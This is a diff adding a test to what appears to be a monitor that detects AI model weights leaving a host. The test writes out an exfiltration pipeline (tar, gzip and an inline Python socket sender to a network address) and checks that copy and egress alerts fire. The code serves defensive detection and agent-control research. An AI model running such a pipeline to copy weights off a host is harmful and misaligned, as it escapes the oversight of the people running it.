@@ -279,6 +279,29 @@ describe('weights: the doors past open-and-mmap', { skip: skip ?? false }, () =>
     }
   });
 
+  test('the weights through two pipes to another host (`tar c | gzip -1 | sender`): weights.copy derived, network.egress high', { skip: hostAddress() ? false : 'needs a non-loopback address on this host' }, async () => {
+    const addr = hostAddress() as string;
+    let got = 0;
+    const sink = createServer((c) => c.on('data', (b: Buffer) => (got += b.length)));
+    await new Promise<void>((r) => sink.listen(0, addr, r));
+    try {
+      const port = (sink.address() as AddressInfo).port;
+      const mid = makeModel(join(tmp.dir, 'piped-model'), 64);
+      const sender = `python3 -c "import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2])))\nwhile True:\n    b = sys.stdin.buffer.read(1 << 16)\n    if not b: break\n    s.sendall(b)\ns.close()" ${addr} ${port}`;
+      const { alerts } = await run('two-pipes', `tar c -C ${tmp.dir} piped-model | gzip -1 | ${sender}; sleep 0.5`, 'observe', mid.dir);
+      assert.ok(got > 32 << 20, `the model left the host (${got} bytes)`);
+      const d = alerts.find((a) => a.category === 'weights.copy' && ev(a).match === 'derived');
+      assert.ok(d, show(alerts));
+      assert.equal((d.proc as { comm?: string }).comm, 'python3', 'the last writer, the sender');
+      assert.equal(ev(d).path, `${addr}:${port}`);
+      const egress = alerts.find((a) => a.rule === 'weights-derived-egress');
+      assert.ok(egress, show(alerts));
+      assert.equal(egress.severity, 'high');
+    } finally {
+      sink.close();
+    }
+  });
+
   describe('a replica started for the agent by a host service outside its tree', () => {
     let runner: ChildProcess | null = null;
     const spool = () => join(tmp.dir, 'spool');
